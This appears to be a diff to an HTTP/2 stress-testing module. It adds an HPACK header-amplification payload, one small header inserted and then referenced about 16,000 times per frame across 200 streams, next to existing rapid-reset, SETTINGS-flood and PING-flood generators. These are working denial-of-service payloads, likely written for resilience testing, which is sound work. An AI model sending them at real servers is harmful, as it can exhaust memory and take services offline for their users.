@@ -477,7 +477,15 @@ def _resets() -> bytes:
     return b"".join(pairs)
 
 
+def _indexed_heads() -> bytes:
+    """Each byte of the block is one entry of the metadata: the one that the table of HPACK has taken up last."""
+    block = _call_head() + b"\x40\x01x\x01y"
+    block += b"\xbe" * (16_000 - len(block))
+    return b"".join(http2_frame(1, 5, stream, block) for stream in range(1, 401, 2))
+
+
 FRAMES: Final[Mapping[str, Callable[[], bytes]]] = {
+    "indexed heads": _indexed_heads,
     "rapid resets": _resets,
     "settings": lambda: http2_frame(4, 0, 0) * 50_000,
     "pings": lambda: http2_frame(6, 0, 0, bytes(8)) * 50_000,
